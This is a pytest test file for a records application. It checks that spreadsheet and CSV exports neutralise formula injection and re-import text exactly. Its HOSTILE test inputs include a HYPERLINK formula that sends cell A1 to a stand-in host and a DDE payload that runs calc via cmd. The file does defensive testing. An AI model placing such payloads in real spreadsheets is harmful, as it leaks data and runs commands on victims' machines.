"""Spreadsheets out: user text never becomes a formula, and comes back exactly."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from movement_desk.services.core import audit, tabular
from movement_desk.services.records import transfer
from movement_desk.services.records.transfer import RecordFilter

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=đã có dấu nháy",
    "''@hai dấu nháy",
    "'bình thường",
]
# Only multi-line fields keep a leading tab or carriage return (single-line fields trim blanks).
MULTILINE = ["\tbắt đầu bằng tab", "\rbắt đầu bằng CR", "=1+1\nhai dòng"]


@pytest.mark.parametrize("text", HOSTILE + MULTILINE + ["", "a", "'", "=", "'''"])
def test_csv_escape_round_trips_every_text(text):
    escaped = tabular.escape_csv_text(text)
    assert escaped[:1] not in tabular.FORMULA_STARTS
    assert tabular.unescape_csv_text(escaped) == text


def _session_rows():
    header = "date,unit_code,kind,organizer_kind,organizer_name,title,participants,tips,notes"
    rows = [header]
    for number, text in enumerate(HOSTILE):
        note = MULTILINE[number % len(MULTILINE)]
        rows.append(["05/03/2024", "01834", "launch", "police", text, text, str(number), "0", note])
    return rows


def _write(path, rows):
    tabular.write_table(path, rows[0].split(","), rows[1:])
    return path


def _model_rows():
    header = "name,model_type,unit_code,managing_kind,managing_name,established_on,members,notes"
    rows = [header]
    for number, text in enumerate(HOSTILE):
        note = MULTILINE[number % len(MULTILINE)]
        rows.append([text, "Camera an ninh", "01858", "police", text, "01/02/2020", number, note])
    return rows


def _commendation_rows():
    header = (
        "decision_number,decision_date,form,authority,signer_title,signer_name,place,"
        "recipient_name,recipient_position,recipient_unit,achievement,register_number"
    )
    rows = [header]
    for number, text in enumerate(HOSTILE):
        rows.append(
            [
                "=12/QĐ",
                "15/01/2024",
                "Giấy khen",
                "GIÁM ĐỐC",
                "GIÁM ĐỐC",
                "@Người ký",
                "-Nơi",
                text,
                text,
                text,
                MULTILINE[number % len(MULTILINE)],
                text[:30],
            ]  # fmt: skip
        )
    return rows


def _snapshot(kind):
    spec = transfer._kind(kind)
    return sorted(
        tuple(sorted((k, v) for k, v in spec.to_raw(r).items() if k != "uuid"))
        for r in spec.query(RecordFilter())
    )


@pytest.mark.parametrize(
    ("kind", "rows"),
    [("sessions", _session_rows), ("models", _model_rows), ("commendations", _commendation_rows)],
)
def test_exports_keep_text_as_text_and_import_back_exactly(database, actor, tmp_path, kind, rows):
    from movement_desk.db.connection import close_database
    from movement_desk.services.admin.bootstrap import prepare_database

    source = _write(tmp_path / "source.xlsx", rows())
    transfer.import_file(kind, source, actor)
    before = _snapshot(kind)
    texts = {value for row in before for _, value in row if isinstance(value, str)}
    assert {t for t in HOSTILE if t[:1] != "'"} <= texts | {t.upper() for t in texts}

    xlsx, csv_file = tmp_path / "out.xlsx", tmp_path / "out.csv"
    transfer.export_file(kind, xlsx, actor=actor)
    transfer.export_file(kind, csv_file, actor=actor)
    sheet = load_workbook(xlsx).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with csv_file.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in tabular.FORMULA_STARTS]

    for number, exported in enumerate((xlsx, csv_file)):
        close_database()
        prepare_database(tmp_path / f"again-{number}.sqlite3")
        transfer.import_file(kind, exported, actor)
        assert _snapshot(kind) == before


def test_audit_export_keeps_hostile_text_as_text(database, actor, tmp_path):
    transfer.import_file("sessions", _write(tmp_path / "s.xlsx", _session_rows()), actor)
    xlsx, csv_file = tmp_path / "audit.xlsx", tmp_path / "audit.csv"
    assert audit.export_audit(xlsx, actor) > 0
    audit.export_audit(csv_file, actor)
    sheet = load_workbook(xlsx).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with csv_file.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in tabular.FORMULA_STARTS]
    labels = {name: name for name in audit.EXPORT_HEADERS}
    read_back = tabular.read_table(csv_file, labels)
    xlsx_back = tabular.read_table(xlsx, labels)
    # the CSV, written second, starts with the entry of the first export
    assert [r for _, r in read_back.rows][1:] == [
        {k: (v if v is not None else "") for k, v in r.items()} for _, r in xlsx_back.rows
    ]
    assert any(
        str(r["Bản ghi"]).startswith("=HYPERLINK") for _, r in read_back.rows if r["Bản ghi"]
    )
